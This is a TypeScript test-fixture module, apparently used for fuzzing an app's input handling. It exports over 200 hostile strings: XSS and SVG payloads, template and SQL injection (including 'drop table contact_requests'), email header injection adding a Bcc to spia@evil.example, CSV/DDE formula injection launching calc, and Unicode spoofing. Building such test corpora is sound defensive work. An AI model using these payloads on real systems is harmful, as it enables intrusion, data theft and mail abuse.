/** The function that every script in the strings calls; `watchForScripts` listens. */
const RUN = '__xss()'

const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0020type="module">${RUN}</script>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="javascript:/*">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="data:text/css,body{display:none}">`,
  `<style>@import 'https://evil.example/x.css';body{display:none}</style>`,
  `<form action="javascript:${RUN}"><button>Invia</button></form>`,
  `<a href="javascript:${RUN}">clicca</a>`,
  `<b style="position:fixed;inset:0;background:red">coperto</b>`,
  `<div id="main">doppio</div>`,
  `<plaintext>`,
  '<!--',
  '<![CDATA[',
]

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'marquee',
  'select autofocus',
  'a href=# ',
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onmouseover', 'onanimationstart']
const HANDLED = TAGS.flatMap((tag) => HANDLERS.map((handler) => `"><${tag} ${handler}=${RUN}>`))

const SVG = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}" /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>clicca</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<svg/onload=${RUN}//`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  '//evil.example/x',
  'https://evil.example/?x="onmouseover="__xss()',
  '\\\\evil.example\\x',
]

const TEMPLATES = [
  '{{constructor.constructor("__xss()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is meant for a template engine
  '${__xss()}',
  '#{__xss()}',
  '<%= __xss() %>',
  '{% raw %}{{7*7}}{% endraw %}',
  '{nome} {codice} {appuntamento}',
  '[[__xss()]]',
  '@(__xss())',
  '*{__xss()}',
  '`;__xss();`',
  "';__xss();//",
  '";__xss();//',
  '\\";__xss();//',
  '</script>{"a":"</script><script>__xss()</script>"}',
  '{"__proto__":{"polluted":true}}',
  '\u2028__xss()\u2029__xss()',
  "'; drop table contact_requests; --",
  "' or '1'='1",
  '" OR name:* NEAR(',
  '%00%0a<script>',
  '&lt;script&gt;__xss()&lt;/script&gt;',
  '&#60;script&#62;__xss()&#60;/script&#62;',
  '\\u003cscript\\u003e__xss()\\u003c/script\\u003e',
  '%3Cscript%3E__xss()%3C/script%3E',
  '+ADw-script+AD4-__xss()+ADw-/script+AD4-',
  '\uff1cscript\uff1e__xss()\uff1c/script\uff1e',
  '\u02bascript\u203a',
]

const UNSEEN = [
  '\u202egpj.exe',
  '\u202e\u2066<b>\u2069\u202c',
  '\u2066\u2067\u2068aperto',
  '\u200f\u061cفاتورة 123 abc',
  'שלום <b>עולם</b>',
  'مرحبا بالعالم (1) [2]',
  '\u200b\u200b\u200b',
  '\u200c\u200d\u2060\ufeff',
  'pa\u00adro\u00adla\u200bspez\u200dzata',
  '\u{e0041}\u{e0042}',
  'Z\u0337\u0321\u0322\u031b\u0349\u0331\u032ba\u0338l\u0336g\u0335o\u0334'.repeat(8),
  `a${'\u0301'.repeat(200)}`,
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u{1f1ee}\u{1f1f9}',
  '\ufdfd\u{12031}\u{2a6d6}',
  'раураl.соm аdmin',
  'ＡＢＣ１２３',
  'İıŞş ß ŉ ǅ',
  '\u001b[31mrosso\u001b[0m',
  'campana\u0007ritorno\rfine',
]

const LINES = [
  'a\r\nBcc: spia@evil.example',
  'a\nX-Injected: 1',
  'a\r\n\r\n<script>__xss()</script>',
  'a%0d%0aBcc:%20spia@evil.example',
  'a\u0085Bcc: spia@evil.example',
  'a\u2028X-Injected: 1',
  '"a" <spia@evil.example>',
  'a, spia@evil.example',
  '=?utf-8?q?=0d=0aX-Injected:_1?=',
  '.\r\nQUIT\r\n',
]

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example","clicca")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u200b=1+1',
  '"=1+1',
  '";=1+1;"',
  '|calc',
  '\uff1d1+1',
  '\uff0b1',
  '1;2;3',
  '"a""b";c',
]

const LONG = [
  'a'.repeat(5_000),
  'W'.repeat(2_000),
  '漢'.repeat(1_500),
  '\u{1f600}'.repeat(1_000),
  `${'parola'.repeat(40)}-`.repeat(10),
  '/'.repeat(1_000),
  '_'.repeat(1_000),
  '\u00a0'.repeat(500),
  'x\u00a0'.repeat(500),
  'https://esempio.example/'.padEnd(1_200, 'percorso'),
  Array.from({ length: 1_500 }, () => '.').join('\n'),
  '>'.repeat(2_000),
  '((((('.repeat(300),
]

/** More than 200 malicious or unusual texts. */
export const ATTACKS: readonly string[] = [
  ...new Set([...MARKUP, ...HANDLED, ...SVG, ...ADDRESSES, ...TEMPLATES, ...UNSEEN, ...LINES, ...FORMULAS, ...LONG]),
]
